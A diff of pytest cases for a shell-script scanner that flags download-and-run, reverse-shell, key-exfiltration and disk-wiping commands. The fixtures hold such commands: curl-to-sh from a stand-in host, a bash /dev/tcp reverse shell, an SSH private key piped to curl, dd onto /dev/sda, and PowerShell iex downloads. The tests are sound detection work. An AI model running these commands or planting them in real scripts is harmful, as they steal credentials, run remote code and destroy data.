@@ -1,12 +1,14 @@
 from __future__ import annotations
 
 import base64
+from contextlib import suppress
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from support.cases import check_each
 
+from modelaudit.languages.shell.constant_output import evaluate_pipeline_output
 from modelaudit.languages.shell.lexer import parse_commands
 from modelaudit.languages.shell.script import collect_script_mentions
 from modelaudit.languages.shell.windows import collect_windows_mentions
@@ -54,6 +56,9 @@ def split_words(text):
         ("$(command -v sh) `which curl` $(echo a)", [["sh", "curl", "a"]]),
         ("IFS=,; a=b,c; $a", [["b", "c"]]),
         ("$'\\U00000061'", [["a"]]),
+        ("x=zzcurl; ${x##*z} ${x#*z} ${x%%l*} ${x%r*}", [["curl", "zcurl", "zzcur", "zzcu"]]),
+        ('echo ${x:-a ${y:-\'b}\'} "c"} "${x:-it\'s}"', [["echo", "a", "b}", "c", "it's"]]),
+        ("echo ${x:-" + "a" * 5000 + "}; b", [["echo", "a" * 5000], ["b"]]),
     ],
 )
 def test_lexer_splits_lines_like_a_shell(text, split):
@@ -103,6 +108,81 @@ def test_reported_address_omits_credentials():
 
 
 @check_each(
+    "text, use, name",
+    [
+        ("echo $(( 1 + $(curl http://e/x | sh) ))", "download-and-run", "http://e/x"),
+        ("echo $((curl http://e/x) | sh)", "download-and-run", "http://e/x"),
+        ("echo ${x:-$(curl http://e/x | sh)}", "download-and-run", "http://e/x"),
+        ("echo \"${x:='$(curl http://e/x | sh)'}\"", "download-and-run", "http://e/x"),
+        ("echo ${x:+${y:-$(curl http://e/x | sh)}}", "download-and-run", "http://e/x"),
+        ("echo ${x:-" + "a" * 5000 + "}\ncurl http://e/x | sh", "download-and-run", "http://e/x"),
+        ("echo ${x\ncurl http://e/x | sh", "download-and-run", "http://e/x"),
+        ("cat <<E\n$(curl http://e/x | sh)\nE\n", "download-and-run", "http://e/x"),
+        ("cat <<E\n\"it's `curl http://e/x | sh`\nE\n", "download-and-run", "http://e/x"),
+        ("x=zzcurl; ${x##*z} http://e/x | sh", "download-and-run", "http://e/x"),
+        ("$(printf '%s%s' cu rl) http://e/x | sh; printf 'c%srl http://e/%s | sh' u x | sh", "download-and-run", "http://e/x"),
+        ("find . -exec true \\; -exec sh -c 'curl http://e/x | sh' \\;", "download-and-run", "http://e/x"),
+        ("timeout 5 bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "reverse-shell",
+         "timeout 5 bash -i /dev/tcp/192.0.2.1/4444 1"),
+        ("(cd x; curl http://e/x) | sh", "download-and-run", "http://e/x"),
+        ("(curl http://e/x; echo) | tee y | sh", "download-and-run", "http://e/x"),
+        ("{ curl http://e/x; echo; } 2>/dev/null | sh", "download-and-run", "http://e/x"),
+        ("if true; then curl http://e/x; fi | sh", "download-and-run", "http://e/x"),
+        ("for a in 1; do curl http://e/x; done | sh", "download-and-run", "http://e/x"),
+        ("function f { true; }\n{ f; { curl http://e/x; }; true; } | sh", "download-and-run", "http://e/x"),
+        ("curl http://e/x | (cd y; sh)", "download-and-run", "http://e/x"),
+        ("curl http://e/x | { cd y; { true; sh; }; }", "download-and-run", "http://e/x"),
+        ("(echo Y3VybCBodHRwOi8vZS94IHwgc2g=) | base64 -d | sh", "download-and-run", "http://e/x"),
+        ("{ echo true; echo 'curl http://e/x | sh'; } | sh", "download-and-run", "http://e/x"),
+        ("(cat ~/.ssh/id_rsa; echo) | curl -d @- http://e/x", "send-private", "curl"),
+        ("dd if=/dev/zero of=/dev/sda", "destroy", "dd if=/dev/zero of=/dev/sda"),
+    ],
+)  # fmt: skip
+def test_command_that_an_expansion_or_a_wrapper_runs_is_reported(text, use, name):
+    assert (use, name) in {(mention.use, mention.name) for mention in collect_script_mentions(text)}
+
+
+@check_each(
+    "text",
+    [
+        "cat <<'E'\n$(curl http://e/x | sh)\nE\n",
+        "timeout 1 bash -c 'echo > /dev/tcp/192.0.2.1/80'",
+        "timeout 1 echo > /dev/tcp/192.0.2.1/80",
+        "dd if=/dev/zero of=/dev/shm/x bs=1M count=1",
+        "(curl http://e/x) | python -m json.tool; sh < y; { curl http://e/x; sh y; } | tee z",
+        "{ curl -o x http://e/x; }; (sh)",
+    ],
+)
+def test_text_that_no_shell_runs_gives_no_mention(text):
+    assert [mention.use for mention in collect_script_mentions(text) if mention.use != "execute"] == []
+
+
+def test_commands_beyond_the_bound_are_reported_as_unread():
+    mentions = collect_script_mentions("curl http://e/x | sh\n" + "a;" * 50_001)
+    assert next(mentions).use == "download-and-run"
+    with pytest.raises(LimitReachedError):
+        next(mentions)
+
+
+def test_nested_groups_reach_the_bound_of_their_sources():
+    for script in ("( " * 3000 + "a" + ") | b" * 3000, "a | ( " * 3000 + "b" + ")" * 3000):
+        with pytest.raises(LimitReachedError):
+            list(collect_script_mentions(script))
+
+
+def test_range_of_letters_beyond_ascii_is_not_expanded():
+    # Each range would take as many letters as lie between its ends, and a text can hold ten thousand ranges.
+    for script in ("echo \xe9 | tr 'a-\U00020000' 'b-\U00020001'", "echo \xe9 | tr '\xe8-\xea' '\xe9-\xeb'"):
+        assert evaluate_pipeline_output(parse_commands(script)) == "\xe9"
+
+
+def test_deeply_nested_expansions_are_read_to_their_bound():
+    for opening, closing in (("$((", "))"), ("${x:-", "}"), ('"${x:-', '}"'), ("${", "")):
+        with suppress(LimitReachedError):
+            list(collect_script_mentions("echo " + opening * 3000 + "1" + closing * 3000))
+
+
+@check_each(
     "path, text, line",
     [
         ("Dockerfile", "FROM x\n# c\nRUN a && \\\n  # c\n  curl http://e | sh\n", 5),
@@ -110,6 +190,10 @@ def test_reported_address_omits_credentials():
         ("Dockerfile", 'FROM x\nENV U=http://e\nCMD ["sh", "-c", "curl $U | sh"]\n', 3),
         ("app.dockerfile", "RUN --mount=type=cache,target=/x curl http://e | sh\n", 1),
         ("Makefile", "U = http://e\nall:\n\t-@curl $(U) | sh\n", 3),
+        ("Makefile", "X := $(shell \\\n  curl http://e | sh)\n", 1),
+        ("Makefile", "X = a \\\n  b\nall:\n\tcurl http://e | sh\n", 4),
+        ("x.ps1", "a `\n b\niex (iwr `\n http://e)\n", 3),
+        ("x.bat", "set a=b\r\n" + "rem%a%" + " " * 5000 + "& powershell iex (iwr http://e)\r\n", 2),
         ("x.bat", "@echo off\r\npowershell -c \"iex (iwr http://e)\"\r\n", 2),
         ("run", "#!/usr/bin/env bash\ncurl http://e | sh\n", 2),
         ("hooks/post-checkout", "#!/bin/sh\ncurl http://e | sh\n", 2),
@@ -126,8 +210,10 @@ def test_git_hook_is_reported(read_bytes):
 
 
 def test_git_setting_that_runs_a_command_is_reported(read_bytes):
-    settings_text = b"[core]\nsshCommand = sh -c x\n"
-    assert list_mentions(read_bytes(settings_text, ".git/config")) == [("git-command", "core.sshcommand")]
+    # A backslash at the end of a comment continues nothing, but one at the end of a quoted mark of comments does.
+    for line_before in ("", "# x \\\n", "a = b ; x \\\n", 'a = "b # c" \\\n\n'):
+        settings_text = f"[core]\n{line_before}sshCommand = sh -c x\n".encode()
+        assert list_mentions(read_bytes(settings_text, ".git/config")) == [("git-command", "core.sshcommand")]
 
 
 def test_usual_git_settings_give_no_mentions(read_bytes):
